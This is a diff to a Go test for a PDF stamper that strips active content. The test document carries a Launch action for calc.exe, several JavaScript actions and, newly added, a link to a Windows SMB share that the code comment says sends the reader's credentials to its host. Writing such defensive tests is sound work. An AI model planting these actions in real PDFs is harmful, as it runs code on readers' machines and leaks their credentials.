@@ -82,9 +82,10 @@ func TestAttachedFilesStayBehind(t *testing.T) {
 // opens or sends anything, or changes what is shown once it opened —
 // JavaScript on opening and in the name tree, a Launch of a program from
 // a link, additional actions on the page and on a form field, a chain of
-// actions after a harmless one — which a viewer that runs them could use
-// to cover the stamp, while the render check (PDFium runs none) passes.
-// Links within the document and to the web stay.
+// actions after a harmless one, a link to a Windows share (which sends the
+// reader's credentials to its host) — which a viewer that runs them could
+// use to cover the stamp, while the render check (PDFium runs none)
+// passes. Links within the document and to the web stay.
 func TestActionsStayBehind(t *testing.T) {
 	var d rawpdf.Doc
 	js := func(code string) string {
@@ -94,18 +95,19 @@ func TestActionsStayBehind(t *testing.T) {
 	named := d.Add(js("ACTIVE named tree"))
 	launch := d.Add("<< /Type /Action /S /Launch /F (calc.exe) /Win << /F (ACTIVE-launch.exe) >> >>")
 	web := d.Add("<< /Type /Action /S /URI /URI (https://example.com/kept) /Next " + js("ACTIVE chained") + " >>")
+	share := d.Add("<< /Type /Action /S /URI /URI ( SMB://ACTIVE-host/share) >>") // a reader's Windows credentials, to its host
 	tree := d.Reserve()
 	page := d.Reserve()
-	links := d.Add(fmt.Sprintf("[<< /Type /Annot /Subtype /Link /Rect [10 10 50 50] /A %s >> << /Type /Annot /Subtype /Link /Rect [60 10 90 50] /A %s >> << /Type /Annot /Subtype /Link /Rect [100 10 140 50] /Dest [%s /Fit] >> << /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [150 10 250 50] /AA << /K %s >> >>]",
-		rawpdf.Ref(launch), rawpdf.Ref(web), rawpdf.Ref(page), js("ACTIVE keystroke")))
+	links := d.Add(fmt.Sprintf("[<< /Type /Annot /Subtype /Link /Rect [10 10 50 50] /A %s >> << /Type /Annot /Subtype /Link /Rect [60 10 90 50] /A %s >> << /Type /Annot /Subtype /Link /Rect [100 10 140 50] /Dest [%s /Fit] >> << /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [150 10 250 50] /AA << /K %s >> >> << /Type /Annot /Subtype /Link /Rect [260 10 300 50] /A %s >>]",
+		rawpdf.Ref(launch), rawpdf.Ref(web), rawpdf.Ref(page), js("ACTIVE keystroke"), rawpdf.Ref(share)))
 	content := d.Stream("", drawing(letter))
 	d.Set(page, fmt.Sprintf("<< /Type /Page /Parent %s /MediaBox [0 0 612 792] /Contents %s /Resources << >> /Annots %s /AA << /O %s >> >>",
 		rawpdf.Ref(tree), rawpdf.Ref(content), rawpdf.Ref(links), js("ACTIVE page open")))
 	d.Set(tree, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count 1 >>", rawpdf.Ref(page)))
 	in := d.Bytes(d.Add(fmt.Sprintf("<< /Type /Catalog /Pages %s /OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names [(n) %s] >> >> >>",
 		rawpdf.Ref(tree), rawpdf.Ref(open), js("ACTIVE will close"), rawpdf.Ref(named))))
-	if n := bytes.Count(in, []byte("ACTIVE")); n != 7 {
-		t.Fatalf("the test document has %d active parts, want 7", n)
+	if n := bytes.Count(in, []byte("ACTIVE")); n != 8 {
+		t.Fatalf("the test document has %d active parts, want 8", n)
 	}
 	res := stamp(t, in)
 	// Every object as it reads, those in compressed object streams too,
@@ -136,7 +138,7 @@ func TestActionsStayBehind(t *testing.T) {
 	if !bytes.Contains(all.Bytes(), []byte("https://example.com/kept")) || !bytes.Contains(all.Bytes(), []byte("/Dest")) {
 		t.Error("the stamped copy lost its web link or its link within the document")
 	}
-	if res.Disarmed < 7 {
-		t.Errorf("%d actions taken out, want at least 7", res.Disarmed)
+	if res.Disarmed < 8 {
+		t.Errorf("%d actions taken out, want at least 8", res.Disarmed)
 	}
 }
